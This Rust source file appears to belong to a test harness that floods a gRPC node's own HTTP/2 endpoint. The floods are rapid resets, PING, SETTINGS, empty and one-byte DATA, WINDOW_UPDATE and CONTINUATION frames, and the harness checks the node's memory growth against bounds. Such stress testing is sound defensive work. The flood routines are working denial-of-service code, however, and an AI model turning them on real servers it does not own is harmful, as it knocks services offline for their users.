//! Frames that cost the server more than the client: resets, control frames, and DATA frames with little or nothing.

use std::sync::atomic::Ordering;
use std::time::Duration;

use crate::attack::{Attack, HERE, Target};
use crate::wire::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, Http2, INITIAL_WINDOW, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, grpc, prefix,
};

const MIB: u64 = 1 << 20;
const APPLY: &str = "/snapledger.v1.LedgerService/Apply";
const CONNECTIONS: usize = 4;
const BOUND: &str = "frames per second and connection";

type Flood = fn(&mut Http2) -> Vec<u8>;

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        flood("rapid_reset", |target| Box::pin(paced(target, resets, &[]))),
        flood("ping_flood", |target| Box::pin(paced(target, pings, &[]))),
        flood("settings_flood", |target| {
            Box::pin(paced(target, settings, &[]))
        }),
        flood("empty_data_frames", |target| {
            Box::pin(paced(target, empty_data, &[]))
        }),
        flood("window_updates", |target| {
            Box::pin(paced(target, window_updates, &[]))
        }),
        Attack {
            // A debug build on a busy machine does not reach the rate of short frames, so only memory is asserted; the
            // tests of `resets` count them.
            reasons: &[],
            least: Duration::from_secs(2),
            ..flood("one_byte_frames_into_a_stream_that_is_held_up", |target| {
                Box::pin(one_byte_frames(target))
            })
        },
        Attack {
            reasons: &[],
            bound: "h2: header size",
            ..flood("continuation_flood", |target| {
                Box::pin(continuations(target))
            })
        },
    ]
}

fn flood(
    name: &'static str,
    act: fn(Target) -> std::pin::Pin<Box<dyn Future<Output = String> + Send>>,
) -> Attack {
    Attack {
        name,
        bound: BOUND,
        growth_max: 100 * MIB,
        reasons: &["frames"],
        least: Duration::ZERO,
        act,
        ..Attack::ORDINARY
    }
}

async fn paced(target: Target, flood: Flood, settings: &[(u16, u32)]) -> String {
    let mut connections = Vec::new();
    let (mut sent, mut held_up, mut opened) = (0, 0, 0);
    while !target.is_over() {
        // Another one for each that the node has closed.
        connections.retain(|connection: &Http2| !connection.is_closed());
        while connections.len() < CONNECTIONS {
            opened += 1;
            let connection = Http2::open(HERE, target.grpc, settings).await;
            connections.push(connection.expect("the node listens"));
        }
        for connection in &mut connections {
            let frames = flood(connection);
            match connection.send(&frames).await {
                true => sent += 1,
                false => held_up += 1,
            }
        }
    }
    format!("{sent} bursts of 1000 taken, {held_up} held up, on {opened} connections")
}

fn resets(connection: &mut Http2) -> Vec<u8> {
    let head = grpc(APPLY, &[]);
    let reset = |_| {
        let stream = connection.stream();
        let begun = frame(HEADERS, END_HEADERS, stream, &head);
        [begun, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    };
    (0..1000).flat_map(reset).collect()
}

fn pings(_: &mut Http2) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8]).repeat(1000)
}

fn settings(_: &mut Http2) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[]).repeat(1000)
}

fn empty_data(connection: &mut Http2) -> Vec<u8> {
    let stream = connection.stream();
    let head = frame(HEADERS, END_HEADERS, stream, &grpc(APPLY, &[]));
    let mut bytes = [head, frame(DATA, 0, stream, &prefix(1000))].concat();
    bytes.extend(frame(DATA, 0, stream, &[]).repeat(1000));
    bytes
}

// The window grows by nothing that an answer could use, and at last too far.
fn window_updates(_: &mut Http2) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(1000)
}

// The answers of the stream are not taken, so that its reader stops; then all of the window in frames of one byte.
async fn one_byte_frames(target: Target) -> String {
    const STREAM: &str = "/snapledger.v1.LedgerService/Stream";
    let (mut held, mut sent) = (Vec::new(), 0);
    for _ in 0..8 {
        let window = [(INITIAL_WINDOW, 0)];
        let Ok(mut connection) = Http2::open(HERE, target.grpc, &window).await else {
            continue;
        };
        let stream = connection.stream();
        connection
            .send(&frame(HEADERS, END_HEADERS, stream, &grpc(STREAM, &[])))
            .await;
        let empty = frame(DATA, 0, stream, &prefix(0));
        connection.send(&empty.repeat(200)).await;
        held.push((connection, stream));
    }
    while !target.is_over() {
        for (connection, stream) in &mut held {
            // Bytes of a message that is never complete.
            let frames = frame(DATA, 0, *stream, &[0]).repeat(1000);
            if connection.send(&frames).await {
                sent += 1;
            }
        }
    }
    format!("{sent} bursts of 1000 taken on {} streams", held.len())
}

async fn continuations(target: Target) -> String {
    let (mut opened, mut closed, mut sent) = (0, 0, 0);
    while !target.is_over() {
        let Ok(mut connection) = Http2::open(HERE, target.grpc, &[]).await else {
            continue;
        };
        opened += 1;
        let stream = connection.stream();
        connection
            .send(&frame(HEADERS, 0, stream, &grpc(APPLY, &[])))
            .await;
        while !target.is_over() && !connection.is_closed() {
            let block = crate::wire::fields(&[("x", "y")]);
            if !connection
                .send(&frame(CONTINUATION, 0, stream, &block).repeat(1000))
                .await
            {
                break;
            }
            sent += 1;
        }
        closed += usize::from(connection.seen.bytes.load(Ordering::Relaxed) > 0);
    }
    format!("{sent} bursts of 1000 sent, {closed} of {opened} connections closed")
}
